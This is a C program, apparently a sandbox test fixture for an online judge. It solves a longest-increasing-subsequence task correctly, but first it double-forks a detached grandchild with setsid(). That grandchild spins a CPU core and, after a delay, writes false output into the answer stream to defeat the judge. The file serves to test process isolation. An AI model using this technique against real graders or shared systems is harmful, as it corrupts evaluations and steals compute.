/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Attack: answer rightly and end well, but leave a grandchild behind in a session of its own. It
 * keeps a core busy and, when the judge should be past looking, writes into the answer.
 */
#include <stdio.h>
#include <time.h>
#include <unistd.h>

static void stay(void)
{
	time_t start = time(NULL);

	for (;;) {
		if (time(NULL) > start + 2 && write(STDOUT_FILENO, "0\n", 2) < 0)
			_exit(1);
	}
}

static void leave_grandchild(void)
{
	if (fork())
		return;
	setsid();
	if (!fork())
		stay();
	_exit(0);
}

int main(void)
{
	static int last[100000];
	int n, x, length = 0;

	leave_grandchild();
	if (scanf("%d", &n) != 1)
		return 1;
	while (n-- > 0 && scanf("%d", &x) == 1) {
		int lo = 0, hi = length;

		while (lo < hi) {
			int mid = (lo + hi) / 2;

			if (last[mid] < x)
				lo = mid + 1;
			else
				hi = mid;
		}
		last[lo] = x;
		if (lo == length)
			length++;
	}
	printf("%d\n", length);
	return 0;
}
